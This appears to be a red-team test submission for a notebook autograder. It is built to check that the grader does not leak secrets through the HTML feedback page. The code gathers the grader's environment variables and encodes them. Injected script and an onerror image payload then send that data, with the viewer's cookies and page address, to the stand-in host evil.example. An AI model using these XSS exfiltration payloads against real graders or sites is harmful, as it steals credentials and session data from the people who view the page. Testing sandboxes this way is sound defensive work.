# attack: exfiltrate through the feedback page: display HTML whose <script> (marked RTXSS) sends the
#   grader's environment to an outside address when the student or the instructor opens the feedback,
#   with the environment hex-encoded inside an attribute and a data: URL, out of reach of line redaction
# expect: 0 points for accumulate (no answer); no canary in any output, no executable student <script>
#   in the feedback HTML; batch continues
import base64, os
from IPython.display import HTML, Javascript, display

_env = repr(dict(os.environ)).encode()
display(HTML(f'<div data-x="{_env.hex()}"><script>/*RTXSS*/fetch("https://evil.example/c?d="+'
             f'encodeURIComponent(document.cookie+"{base64.b64encode(_env).decode()}"))</script>'
             f'<img src=x onerror="/*RTXSS*/alert(1)"></div>'))
display(Javascript("/*RTXSS*/ fetch('https://evil.example/k?'+document.location)"))
print("RTLEAK<<ENVHEX", _env.hex(), ">>")


def accumulate(model, loss_fn, inputs, targets, micro_batch):
    """Backward over micro-batches; the .grad added equals the full batch's. Returns the batch loss (float)."""
    raise NotImplementedError("no answer: this submission only tries to exfiltrate")
